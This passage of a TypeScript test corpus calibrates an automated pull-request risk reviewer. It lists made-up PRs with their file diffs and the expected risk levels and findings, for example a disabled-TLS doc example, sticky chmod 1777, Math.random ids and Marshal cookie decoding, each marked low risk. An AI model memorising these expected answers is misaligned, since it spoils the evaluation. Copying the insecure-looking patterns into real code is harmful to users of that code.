      { path: 'test/types/logline.test-d.ts', additions: 6, deletions: 3 },
    ],
    checks: nodeCi(),
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal-lint-rule-named-for-mfa',
    description:
      "A maintainer of a Ruby linter fixes an infinite loop in the autocorrect of its Gemspec/RequireMFA rule (lib/lintkit/cop/gemspec/require_mfa.rb) when a gemspec holds several specifications, with a spec and a changelog entry. The rule's file is named for what it checks in other projects' gemspecs, not for this project's authentication; CI green.",
    repo: 'lintkit',
    title: 'Fix an infinite loop for Gemspec/RequireMFA with multiple specifications',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/lintkit/cop/gemspec/require_mfa.rb',
        base: lines('module Lintkit', '  module Cop', '    module Gemspec', '      class RequireMFA < Base', '        def on_block(node)', '          spec = gem_specification(node)', '          return if metadata_sets_mfa?(spec)', '          add_offense(spec) { |corrector| correct_metadata(corrector, spec) }', '        end', '      end', '    end', '  end', 'end'),
        head: lines('module Lintkit', '  module Cop', '    module Gemspec', '      class RequireMFA < Base', '        def on_block(node)', '          spec = gem_specification(node)', '          return unless spec', '          return if metadata_sets_mfa?(spec)', '          return if corrected?(spec)', '          add_offense(spec) { |corrector| correct_metadata(corrector, spec) }', '        end', '      end', '    end', '  end', 'end'),
      },
      {
        path: 'spec/lintkit/cop/gemspec/require_mfa_spec.rb',
        base: lines("RSpec.describe Lintkit::Cop::Gemspec::RequireMFA, :config do", "  it 'registers an offense without rubygems_mfa_required' do", '    expect_offense(<<~RUBY)', '      Gem::Specification.new do |spec|', '      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ `metadata[\'rubygems_mfa_required\']` must be set to `\'true\'`.', '      end', '    RUBY', '  end', 'end'),
        head: lines("RSpec.describe Lintkit::Cop::Gemspec::RequireMFA, :config do", "  it 'registers an offense without rubygems_mfa_required' do", '    expect_offense(<<~RUBY)', '      Gem::Specification.new do |spec|', '      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ `metadata[\'rubygems_mfa_required\']` must be set to `\'true\'`.', '      end', '    RUBY', '  end', '', "  it 'corrects each of several specifications once' do", '    expect_correction_count(2)', '  end', 'end'),
      },
      { path: 'changelog/fix_infinite_loop_require_mfa.md', head: lines('* Fix an infinite loop for `Gemspec/RequireMFA` with multiple specifications. ([@ingrid-h][])') },
    ],
    checks: GREEN_RUBY,
    expect: { ...LOW_APPROVE, absentDrivers: ['sensitive-paths'] },
  }),
];

/** calib17 replays (sindresorhus/got, python-attrs/attrs, uber-go/zap), 2026-11-29. */
const CALIB17_CASES: CorpusEntry[] = [
  pr({
    id: 'cal17-jsdoc-example-tls-off',
    description:
      "A contributor documents an HTTP client's exported option types with JSDoc; the comment of the certificate option shows, in a fenced usage example without leading `*`, the right call and the one never to make (`{rejectUnauthorized: false}`): text in a comment, not a setting; CI green.",
    repo: 'fetchling',
    title: 'Add documentation comments to exported option types',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'source/core/options.ts',
        base: lines('export interface Options {', '\ttimeout?: number;', '', '\trejectUnauthorized?: boolean;', '}'),
        head: lines(
          'export interface Options {',
          '\t/**',
          '\tMilliseconds to wait for the server before the request fails.',
          '\t*/',
          '\ttimeout?: number;',
          '',
          '\t/**',
          '\tWhether the server certificate is checked against the list of trusted CAs.',
          '',
          '\t@default true',
          '',
          '\t@example',
          '\t```',
          "\tawait fetchling('https://example.org', {rejectUnauthorized: true});",
          '',
          '\t// Acceptable against a local development server only:',
          "\tawait fetchling('https://localhost:8443', {rejectUnauthorized: false});",
          '',
          '\t// Never against a remote host:',
          "\tawait fetchling('https://example.org', {rejectUnauthorized: false});",
          '\t```',
          '\t*/',
          '\trejectUnauthorized?: boolean;',
          '}',
        ),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal17-go-version-variant-dropped-with-tests',
    description:
      "A maintainer of a Go logging library raises the minimum Go version and removes the `go1.18` build tags: the generic helpers move from `array_go118.go` into `array.go`, their tests into `array_test.go`, and the `go1.18` files are deleted, among them `example_go118_test.go`, whose examples are rewritten into `example_test.go`: a variant of the package dropped whole, not tests lost; CI green.",
    repo: 'zlog',
    title: 'Remove Go 1.18 build tags',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'array_go118.go', base: lines('// Copyright (c) 2023 Northwind Labs', '//', '// Permission is hereby granted, free of charge, to any person obtaining a copy.', '', '//go:build go1.18', '', 'package zlog', '', '// Objects logs a slice of marshalers.', 'func Objects[T ObjectMarshaler](key string, values []T) Field {', '\treturn Array(key, objects[T](values))', '}'), status: 'removed' },
      { path: 'array_go118_test.go', base: lines('// Copyright (c) 2023 Northwind Labs', '//', '// Permission is hereby granted, free of charge, to any person obtaining a copy.', '', '//go:build go1.18', '', 'package zlog', '', 'func TestObjectsAndStringers(t *testing.T) {', '\tassertCanBeReused(t, Objects("k", []*emptyObject{}))', '}'), status: 'removed' },
      { path: 'example_go118_test.go', base: lines('// Copyright (c) 2023 Northwind Labs', '//', '// Permission is hereby granted, free of charge, to any person obtaining a copy.', '', '//go:build go1.18', '', 'package zlog_test', '', 'func ExampleObjects() {', '\tlogger := zlog.NewExample()', '\tlogger.Info("sent", zlog.Objects("addrs", []addr{{"127.0.0.1", 80}}))', '\t// Output:', '}'), status: 'removed' },
      {
        path: 'array.go',
        base: lines('package zlog', '', 'func Bools(key string, bs []bool) Field {', '\treturn Array(key, bools(bs))', '}'),
        head: lines('package zlog', '', 'func Bools(key string, bs []bool) Field {', '\treturn Array(key, bools(bs))', '}', '', '// Objects logs a slice of marshalers.', 'func Objects[T ObjectMarshaler](key string, values []T) Field {', '\treturn Array(key, objects[T](values))', '}'),
      },
      {
        path: 'array_test.go',
        base: lines('package zlog', '', 'func TestArrayWrappers(t *testing.T) {', '\tassertCanBeReused(t, Bools("k", nil))', '}'),
        head: lines('package zlog', '', 'func TestArrayWrappers(t *testing.T) {', '\tassertCanBeReused(t, Bools("k", nil))', '}', '', 'func TestObjects(t *testing.T) {', '\tassertCanBeReused(t, Objects("k", []*emptyObject{}))', '}'),
      },
      {
        path: 'example_test.go',
        base: lines('package zlog_test', '', 'func Example() {', '\tlogger := zlog.NewExample()', '\tlogger.Info("started")', '\t// Output:', '}'),
        head: lines('package zlog_test', '', 'func Example() {', '\tlogger := zlog.NewExample()', '\tlogger.Info("started")', '\t// Output:', '}', '', 'func ExampleObjects() {', '\tlogger := zlog.NewExample()', '\tlogger.Info("sent", zlog.Objects("addrs", []addr{{"localhost", 8080}}))', '\t// Output:', '}'),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal17-test-helper-type-stub-deleted',
    description:
      "A contributor makes an HTTP client's TypeScript types strict; the test server helper's dependency now ships its own types, so the hand-written `test/helpers/create-test-server.d.ts` stub is deleted and a test's import adjusted: a declaration file checks nothing; CI green.",
    repo: 'fetchling',
    title: 'Make the TypeScript types conform to strict mode',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'test/helpers/create-test-server.d.ts',
        base: lines("declare module 'create-test-server' {", "\timport {Express} from 'express';", '\tfunction createTestServer(options?: unknown): Promise<Express & {url: string; close(): Promise<void>}>;', '\texport = createTestServer;', '}'),
        status: 'removed',
      },
      {
        path: 'test/helpers/with-server.ts',
        base: lines("import createTestServer = require('create-test-server');", '', 'export const withServer = async (run: (server: any) => Promise<void>) => {', '\tconst server = await createTestServer();', '\tawait run(server);', '\tawait server.close();', '};'),
        head: lines("import createTestServer from 'create-test-server';", '', 'export const withServer = async (run: (server: Awaited<ReturnType<typeof createTestServer>>) => Promise<void>) => {', '\tconst server = await createTestServer();', '\tawait run(server);', '\tawait server.close();', '};'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal17-python-lazy-submodule-getattr',
    description:
      "A contributor trims a Python library's cold import time: the package's module `__getattr__` (PEP 562) now loads its `converters` and `validators` submodules on first use, `importlib.import_module(f\".{name}\", mod_name)` under `if name in _LAZY_SUBMODULES:`, a literal set of the two names the PR adds in another hunk, above `__all__`: the package's own files, loaded later; CI green.",
    repo: 'dataclassy',
    title: 'Defer imports on the cold import path',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'src/dataclassy/__init__.py',
        base: lines('import sys', '', 'from . import converters, validators', '', '__all__ = [', '    "Factory",', '    "attrib",', '    "attrs",', '    "define",', '    "field",', '    "frozen",', '    "mutable",', ']', '', '', 'def _make_getattr(mod_name):', '    def __getattr__(name):', '        if name not in ("__version__",):', '            raise AttributeError(name)', '        return _version()', '', '    return __getattr__'),
        head: lines(
          'import sys',
          '',
          '_LAZY_SUBMODULES = {"converters", "validators"}',
          '',
          '__all__ = [',
          '    "Factory",',
          '    "attrib",',
          '    "attrs",',
          '    "define",',
          '    "field",',
          '    "frozen",',
          '    "mutable",',
          ']',
          '',
          '',
          'def _make_getattr(mod_name):',
          '    def __getattr__(name):',
          '        if name in _LAZY_SUBMODULES:',
          '            import importlib',
          '',
          '            mod = importlib.import_module(f".{name}", mod_name)',
          '            sys.modules[mod_name].__dict__[name] = mod',
          '            return mod',
          '',
          '        if name not in ("__version__",):',
          '            raise AttributeError(name)',
          '        return _version()',
          '',
          '    return __getattr__',
        ),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal17-go-sum-tidy-alone',
    description:
      "A regular contributor runs `go mod tidy` in a Go logging library: go.sum gains the checksum lines of two modules' go.mod files and one module zip that the build graph already required, and drops a stale one; go.mod is untouched, so nothing new is built; CI green.",
    repo: 'zlog',
    title: 'go mod tidy',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'go.sum',
        base: lines(
          'github.com/acme/stack v1.4.0 h1:Hq8lYk3nW2vTz0pQe5rXb7uJm1oC4sGd9fAaKe6iLcM=',
          'github.com/acme/stack v1.4.0/go.mod h1:Lz5nBq2wR8tYp3vKc6xHs1mJd0oE7gFa4uTi9eNkWbQ=',
          'github.com/acme/stale v0.1.0/go.mod h1:Xw3rTb9kP2nLm6qJv8sYd1hGc5oF0eAz7uKi4tNbRcM=',
        ),
        head: lines(
          'github.com/acme/stack v1.4.0 h1:Hq8lYk3nW2vTz0pQe5rXb7uJm1oC4sGd9fAaKe6iLcM=',
          'github.com/acme/stack v1.4.0/go.mod h1:Lz5nBq2wR8tYp3vKc6xHs1mJd0oE7gFa4uTi9eNkWbQ=',
          'golang.org/x/sync v0.3.0/go.mod h1:Fp4kWn8sT1yLq6vRc2xJm9oHd3bGa5eUi0tZk7nYwEs=',
          'gopkg.in/check.v1 v1.0.0-20201130134442-10cb98267c6c/go.mod h1:Co6ibVJAznAaIkqp8huTwlJQCZ016jof/cbN4VW5Yz0=',
        ),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
];

const CALIB19_CASES: CorpusEntry[] = [
  pr({
    id: 'cal19-uv-sibling-checkout-back-to-release',
    description:
      "A maintainer drops the [tool.uv.sources] entry that built a web framework against a sibling checkout of its routing library (`../routing`), so uv.lock goes from that checkout's development version (3.2.0.dev0) to the latest release on PyPI (3.1.5). A lower number, but no release moved back: no dependency-downgrade; CI green.",
    repo: 'trellis',
    title: 'build against the released routing package again',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[project]', 'name = "trellis"', 'version = "3.2.0.dev"', 'dependencies = [', '  "itsdangerous>=2.2",', '  "routing>=3.1.0",', ']', '', '[tool.uv.sources]', 'routing = { path = "../routing" }'),
        head: lines('[project]', 'name = "trellis"', 'version = "3.2.0.dev"', 'dependencies = [', '  "itsdangerous>=2.2",', '  "routing>=3.1.0",', ']'),
      },
      {
        path: 'uv.lock',
        base: lines(
          'version = 1',
          '',
          '[[package]]',
          'name = "trellis"',
          'version = "3.2.0.dev0"',
          'source = { editable = "." }',
          'dependencies = [{ name = "itsdangerous" }, { name = "routing" }]',
          '',
          '[[package]]',
          'name = "itsdangerous"',
          'version = "2.2.0"',
          'source = { registry = "https://pypi.org/simple" }',
          '',
          '[[package]]',
          'name = "routing"',
          'version = "3.2.0.dev0"',
          'source = { directory = "../routing" }',
        ),
        head: lines(
          'version = 1',
          '',
          '[[package]]',
          'name = "trellis"',
          'version = "3.2.0.dev0"',
          'source = { editable = "." }',
          'dependencies = [{ name = "itsdangerous" }, { name = "routing" }]',
          '',
          '[[package]]',
          'name = "itsdangerous"',
          'version = "2.2.0"',
          'source = { registry = "https://pypi.org/simple" }',
          '',
          '[[package]]',
          'name = "routing"',
          'version = "3.1.5"',
          'source = { registry = "https://pypi.org/simple" }',
        ),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['finding:dependency-downgrade'] },
  }),
  pr({
    id: 'cal19-go-tidy-indirect-moves-back',
    description:
      "A maintainer bumps a Go web framework's JSON codec (sonic v1.7.1 to v1.8.0) and runs go mod tidy: the codec's new release asks for older versions of two modules than the last one did, so their `// indirect` requirements move back (cpuid v2.0.14 to v2.0.9, an x/arch pseudo-version), as minimal version selection picks. Transitive moves, so low dependency-downgrade notes, not a medium; CI green.",
    repo: 'relay',
    title: 'chore(deps): bump sonic to v1.8.0',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'go.mod',
        base: lines(
          'module github.com/northwind/relay',
          '',
          'go 1.18',
          '',
          'require (',
          '\tgithub.com/bytedance/sonic v1.7.1',
          '\tgithub.com/stretchr/testify v1.8.1',
          ')',
          '',
          'require (',
          '\tgithub.com/klauspost/cpuid/v2 v2.0.14 // indirect',
          '\tgolang.org/x/arch v0.0.0-20220412001346-fc48f9fe4c15 // indirect',
          '\tgolang.org/x/sys v0.5.0 // indirect',
          ')',
        ),
        head: lines(
          'module github.com/northwind/relay',
          '',
          'go 1.18',
          '',
          'require (',
          '\tgithub.com/bytedance/sonic v1.8.0',
          '\tgithub.com/stretchr/testify v1.8.1',
          ')',
          '',
          'require (',
          '\tgithub.com/klauspost/cpuid/v2 v2.0.9 // indirect',
          '\tgolang.org/x/arch v0.0.0-20210923205945-b76863e36670 // indirect',
          '\tgolang.org/x/sys v0.5.0 // indirect',
          ')',
        ),
      },
      {
        path: 'go.sum',
        base: lines(
          'github.com/bytedance/sonic v1.7.1 h1:Tm4Jd2rYq8eSv3nKw0pBx5LcHi7uGf1oZa9QeXd6sVk=',
          'github.com/bytedance/sonic v1.7.1/go.mod h1:Bq0vRz3mWk8LtYe5Xh2pNc7uJd4sGa1oFi6KeZ9wTlM=',
          'github.com/klauspost/cpuid/v2 v2.0.9/go.mod h1:Hm7cQx2tVb5nRw9LpZe3oKd8sJa1uYf6GiT0eXk4NqW=',
          'github.com/klauspost/cpuid/v2 v2.0.14 h1:Pw8nXd3kRt6vLq1mZs5bYe9oJc2uHa7gFi0TkV4xNeQ=',
          'github.com/klauspost/cpuid/v2 v2.0.14/go.mod h1:Zk3vWq8rTn5bLy2mXe6pHs1oJd9uGa4cFi7QeR0tVwB=',
          'golang.org/x/arch v0.0.0-20210923205945-b76863e36670/go.mod h1:Yc5rKe8nWq2tLv6mBz1pXs9oHd3uJa7gFi4TeN0kRwM=',
          'golang.org/x/arch v0.0.0-20220412001346-fc48f9fe4c15 h1:Ql9vXz2rWk6tNb3mYe8pJs5oHc1uGa4dFi7KeT0xRwA=',
          'golang.org/x/arch v0.0.0-20220412001346-fc48f9fe4c15/go.mod h1:Vm2tKq7rXn4bLz8wYe1pHs6oJd3uGa9cFi5QeN0kTwR=',
        ),
        head: lines(
          'github.com/bytedance/sonic v1.8.0 h1:Ea5nXq8rTk3vLz1mWs6bYd2oJc9uHa4gFi7KeR0tNwP=',
          'github.com/bytedance/sonic v1.8.0/go.mod h1:Wn6vRk1tXq9bLy4mZe3pHs8oJd2uGa7cFi5QeT0kVwB=',
          'github.com/klauspost/cpuid/v2 v2.0.9 h1:Lk4tWq2nXr7vBz5mYe9pHs1oJc6uGa3dFi8KeN0xTwQ=',
          'github.com/klauspost/cpuid/v2 v2.0.9/go.mod h1:Hm7cQx2tVb5nRw9LpZe3oKd8sJa1uYf6GiT0eXk4NqW=',
          'golang.org/x/arch v0.0.0-20210923205945-b76863e36670 h1:Rq8nXz5tWk1vLb7mYe3pJs9oHc2uGa6dFi4KeT0xNwM=',
          'golang.org/x/arch v0.0.0-20210923205945-b76863e36670/go.mod h1:Yc5rKe8nWq2tLv6mBz1pXs9oHd3uJa7gFi4TeN0kRwM=',
        ),
      },
      { path: 'version.go', base: lines('package relay', '', '// Version is the current relay version.', 'const Version = "v1.8.3"'), head: lines('package relay', '', '// Version is the current relay version.', 'const Version = "v1.9.0"') },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['dependency-downgrade'], absentDrivers: ['major-updates'] },
  }),
  pr({
    id: 'cal19-retry-jitter-math-random',
    description:
      "A maintainer adds full jitter to an HTTP client's retry backoff (AWS's \"Exponential Backoff and Jitter\" write-up) and replaces crypto.randomInt with Math.random there, since the jitter needs no unpredictability, and adds a mock-server helper that makes a fake request id with Math.random: no secret is made, so no insecure-randomness.",
    repo: 'fetchling',
    title: 'retry: full jitter on backoff',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/retry.ts',
        base: lines("import { randomInt } from 'node:crypto';", '', 'export function backoffDelay(attempt: number, base = 100): number {', '  const cap = Math.min(30_000, base * 2 ** attempt);', '  return cap / 2 + randomInt(Math.ceil(cap / 2));', '}'),
        head: lines('export function backoffDelay(attempt: number, base = 100): number {', '  const cap = Math.min(30_000, base * 2 ** attempt);', '  const jitter = Math.random() * cap;', '  return Math.floor(jitter);', '}'),
      },
      {
        path: 'src/request-id.ts',
        base: lines('export const header = "x-request-id";'),
        head: lines('export const header = "x-request-id";', '', 'export function newRequestId(): string {', '  const requestId = Math.random().toString(36).slice(2, 10);', '  return requestId;', '}'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal19-username-pattern-accepts-dots',
    description:
      "A maintainer lets user names hold dots and be up to 40 characters (the pattern rewritten, anchors kept), and a changelog script stops requiring a version line to start at column 0: neither is an anchor dropped from a validation, so no allowlist-check-loosened.",
    repo: 'trellis',
    title: 'accounts: allow dots in usernames',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'trellis/accounts/forms.py',
        base: lines('import re', '', "USERNAME_RE = re.compile(r'^[a-z0-9_]{3,32}$')", '', 'def validate_username(username):', '    return USERNAME_RE.match(username) is not None'),
        head: lines('import re', '', "USERNAME_RE = re.compile(r'^[a-z0-9_.]{3,40}$')", '', 'def validate_username(username):', '    return USERNAME_RE.match(username) is not None'),
      },
      {
        path: 'scripts/changelog.py',
        base: lines('import re', '', "VERSION_LINE = re.compile(r'^version = \"(.*)\"')"),
        head: lines('import re', '', "VERSION_LINE = re.compile(r'version = \"(.*)\"')"),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal19-static-index-readable-scratch-sticky',
    description:
      "A maintainer makes a generated static index readable by the web server (0o600 to 0o644 on a plain HTML file), writes a new cache file with Go's idiomatic 0o666 (the umask applies), and gives a CI scratch folder /tmp's own mode (chmod 1777, sticky): no secret widened, nothing made writable for all, so no file-permissions-widened.",
    repo: 'trellis',
    title: 'site: serve the generated index',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'internal/site/index.go',
        base: lines('package site', '', 'import "os"', '', 'func writeIndex(p string, html []byte) error {', '\treturn os.WriteFile(p, html, 0o600)', '}'),
        head: lines('package site', '', 'import "os"', '', 'func writeIndex(p string, html []byte) error {', '\treturn os.WriteFile(p, html, 0o644)', '}', '', 'func writeCache(p string, b []byte) error {', '\treturn os.WriteFile(p, b, 0o666)', '}'),
      },
      {
        path: 'scripts/ci-prepare.sh',
        base: lines('#!/bin/sh', 'set -eu', 'mkdir -p /tmp/trellis-scratch'),
        head: lines('#!/bin/sh', 'set -eu', 'mkdir -p /tmp/trellis-scratch', 'chmod 1777 /tmp/trellis-scratch', 'chmod +x scripts/*.sh'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal19-upload-limit-moved-to-max-bytes-reader',
    description:
      "A maintainer replaces an upload handler's length check after io.ReadAll with http.MaxBytesReader(w, r.Body, maxUpload) before it (the Go documentation's way to cap a body), so a large body is never read: the limit is named again, so no security-limit-loosened.",
    repo: 'trellis',
    title: 'upload: cap the body before reading it',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'internal/upload/handler.go',
        base: lines('package upload', '', 'func save(w http.ResponseWriter, r *http.Request) error {', '\tdata, err := io.ReadAll(r.Body)', '\tif err != nil {', '\t\treturn err', '\t}', '\tif len(data) > maxUpload {', '\t\treturn errTooLarge', '\t}', '\treturn store(data)', '}'),
        head: lines('package upload', '', 'func save(w http.ResponseWriter, r *http.Request) error {', '\tr.Body = http.MaxBytesReader(w, r.Body, maxUpload)', '\tdata, err := io.ReadAll(r.Body)', '\tif err != nil {', '\t\treturn errTooLarge', '\t}', '\treturn store(data)', '}'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal19-dockerfile-cache-dir-sticky',
    description:
      "A maintainer gives an image's shared cache folder /tmp's own mode (chmod 1777, the sticky bit: everyone may create files, only owners may delete them) and makes the entrypoint executable: no file made writable by all, so no file-permissions-widened (a Dockerfile is a sensitive path: medium at most, from that alone).",
    repo: 'trellis',
    title: 'docker: shared cache folder for workers',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'Dockerfile',
        base: lines('FROM python:3.12-slim@sha256:' + 'b'.repeat(64), 'WORKDIR /srv', 'COPY . .', 'RUN pip install --no-cache-dir .', 'CMD ["./entrypoint.sh"]'),
        head: lines('FROM python:3.12-slim@sha256:' + 'b'.repeat(64), 'WORKDIR /srv', 'COPY . .', 'RUN pip install --no-cache-dir . && mkdir -p /var/cache/trellis && chmod 1777 /var/cache/trellis && chmod +x ./entrypoint.sh', 'CMD ["./entrypoint.sh"]'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal19-rust-clap-builder-subcommand',
    description:
      "A maintainer of a Rust command-line library turns an example's inline parser into a `cli()` function (clap 4's builder: `Command::new(\"pacman\").about(…)`, parsed from `std::env::args_os()`) so a test can check it. clap's `Command` is no process: no shell-command-execution; CI green.",
    repo: 'argot',
    title: 'docs(examples): split the pacman example parser into cli()',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'examples/pacman.rs',
        base: lines(
          'use clap::{Arg, ArgAction, Command};',
          '',
          'fn main() {',
          '    let matches = Command::new("pacman")',
          '        .about("package manager utility")',
          '        .subcommand_required(true)',
          '        .subcommand(Command::new("sync").arg(Arg::new("package").action(ArgAction::Set).num_args(1..)))',
          '        .get_matches();',
          '    println!("{:?}", matches.subcommand_name());',
          '}',
        ),
        head: lines(
          'use clap::{Arg, ArgAction, Command};',
          '',
          'fn cli() -> Command {',
          '    Command::new("pacman")',
          '        .about("package manager utility")',
          '        .subcommand_required(true)',
          '        .subcommand(Command::new("sync").arg(Arg::new("package").action(ArgAction::Set).num_args(1..)))',
          '}',
          '',
          'fn main() {',
          '    let matches = cli().get_matches_from(std::env::args_os());',
          '    println!("{:?}", matches.subcommand_name());',
          '}',
          '',
          '#[test]',
          'fn verify_cli() {',
          '    cli().debug_assert();',
          '}',
        ),
      },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal19-rubocop-rescue-modifier-to-block',
    description:
      "A maintainer applies RuboCop's Style/RescueModifier to a session cookie coder: `Marshal.load(decoded) rescue nil` becomes a begin/rescue StandardError block around the same call, and a Base64 unpack becomes `unpack1`. The deserialization was there before and runs under the same conditions: no unsafe-deserialization (the style title beside a rewritten line is a low pr-claim-mismatch note); CI green.",
    repo: 'turnstile',
    title: 'style: fix Style/RescueModifier offenses',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/turnstile/session/cookie_coder.rb',
        base: lines(
          'module Turnstile',
          '  module Session',
          '    class CookieCoder',
          '      def decode(str)',
          '        return unless str',
          '        decoded = str.unpack("m").first',
          '        ::Marshal.load(decoded) rescue nil',
          '      end',
          '    end',
          '  end',
          'end',
        ),
        head: lines(
          'module Turnstile',
          '  module Session',
          '    class CookieCoder',
          '      def decode(str)',
          '        return unless str',
          '',
          '        decoded = str.unpack1("m")',
          '        begin',
          '          ::Marshal.load(decoded)',
          '        rescue StandardError',
          '          nil',
          '        end',
          '      end',
          '    end',
          '  end',
          'end',
        ),
      },
    ],
    checks: GREEN_RUBY,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:unsafe-deserialization'] },
  }),
];

/** Install-time builds of the package itself, a validator's message (lead, 2026-11-29). */
function goExample(count: number): string {
  const out = ['package main', '', 'import (', '\t"log"', '\t"net/http"', ')', ''];
  for (let i = 0; i < count; i += 1) out.push(`func handler${i}(w http.ResponseWriter, r *http.Request) {`, `\tw.Write([]byte("example ${i}"))`, '}', '');
  out.push('func main() {', '\tlog.Fatal(http.ListenAndServe(":8080", nil))', '}');
  return lines(...out);
}

/** A Rust test module: `count` async tests under the crate's own test macro (`#[crate::test]`). */
function rustTests(prefix: string, count: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < count; i += 1) out.push('    #[crate::test]', `    async fn ${prefix}_${i}() {`, `        assert_eq!(allow_header(&[Method::GET; ${i + 1}]), "GET,HEAD");`, '    }', '');
  return out;
}

/**
 * Modeled on first-parent histories of a web framework (TypeScript), a PHP framework and an HTTP
 * library replayed as first contributions from accounts years old: a quarter of those rated medium
 * had nothing but the missing history and size beside it, features that came with their tests and
 * test suites moved to another assertion style. And on a Rust web framework whose test modules use
 * the crate's own `#[crate::test]`: tests added there were read as source without tests.
 */
const CALIB21_CASES: CorpusEntry[] = [
  pr({
    id: 'cal21-first-timer-feature-with-tests',
    description:
      'A first-time contributor (account 6 years old) adds a debounce option to queued listeners: about 150 lines of code over four source files and 120 lines of tests; CI green. Size (0.1) beside the missing history (0.2) is effort, not a chance of harm: low, and the action still waits for a maintainer.',
    repo: 'courier',
    title: 'Add debounceable queued listeners',
    author: { login: 'mira-oduya', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-03-14T00:00:00Z' },
    files: [
      { path: 'src/events/debounce.ts', head: tsFunctions('debounceKey', 24, 'return `${input}:debounce`;') },
      { path: 'src/events/queued-listener.ts', base: tsFunctions('listenerName', 6), head: tsFunctions('listenerName', 12) },
      { path: 'src/events/dispatcher.ts', base: tsFunctions('dispatch', 5), head: tsFunctions('dispatch', 9) },
      { path: 'src/events/index.ts', base: lines("export * from './dispatcher.js';"), head: lines("export * from './dispatcher.js';", "export * from './debounce.js';") },
      { path: 'test/events/debounce.test.ts', head: tsFunctions('testDebounce', 30, "return expect(input).toBe('x');") },
    ],
    expect: { level: 'low', action: ['comment', 'needs_discussion'], noFindings: true, drivers: ['author-trust', 'size'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal21-first-timer-test-suite-migration',
    description:
      "A first-time contributor (account 4 years old) moves the type tests to another assertion library: 28 test files, 900 lines, no source file; CI green. Large (0.2), from someone without history here, yet nothing that ships changes: low, and it waits for a maintainer's review.",
    repo: 'courier',
    title: 'chore: migrate type tests to the new assertions (part two)',
    author: { login: 'teodor-vlk', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-01-20T00:00:00Z' },
    files: Array.from({ length: 28 }, (_, i) => ({
      path: `test/types/case-${i}.test-d.ts`,
      base: tsFunctions(`expectTypeOld${i}_`, 8, 'return expectType<string>(input);'),
      head: tsFunctions(`expectTypeNew${i}_`, 8, 'return expect(input).type.toBe<string>();'),
    })),
    expect: { level: 'low', action: ['comment', 'needs_discussion'], noFindings: true, drivers: ['author-trust', 'size'] },
  }),
  pr({
    id: 'cal21-fresh-account-feature-with-tests',
    description: 'The same tested feature from an account created three weeks ago: a throwaway account is the attack shape, so its missing history weighs in full beside the size (medium).',
    repo: 'courier',
    title: 'Add debounceable queued listeners',
    author: { login: 'debounce-dev-26', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(21) },
    files: [
      { path: 'src/events/debounce.ts', head: tsFunctions('debounceKey', 24, 'return `${input}:debounce`;') },
      { path: 'src/events/queued-listener.ts', base: tsFunctions('listenerName', 6), head: tsFunctions('listenerName', 12) },
      { path: 'src/events/dispatcher.ts', base: tsFunctions('dispatch', 5), head: tsFunctions('dispatch', 9) },
      { path: 'test/events/debounce.test.ts', head: tsFunctions('testDebounce', 30, "return expect(input).toBe('x');") },
    ],
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], noFindings: true, drivers: ['author-trust', 'size'] },
  }),
  pr({
    id: 'cal21-first-timer-large-feature-in-login-code',
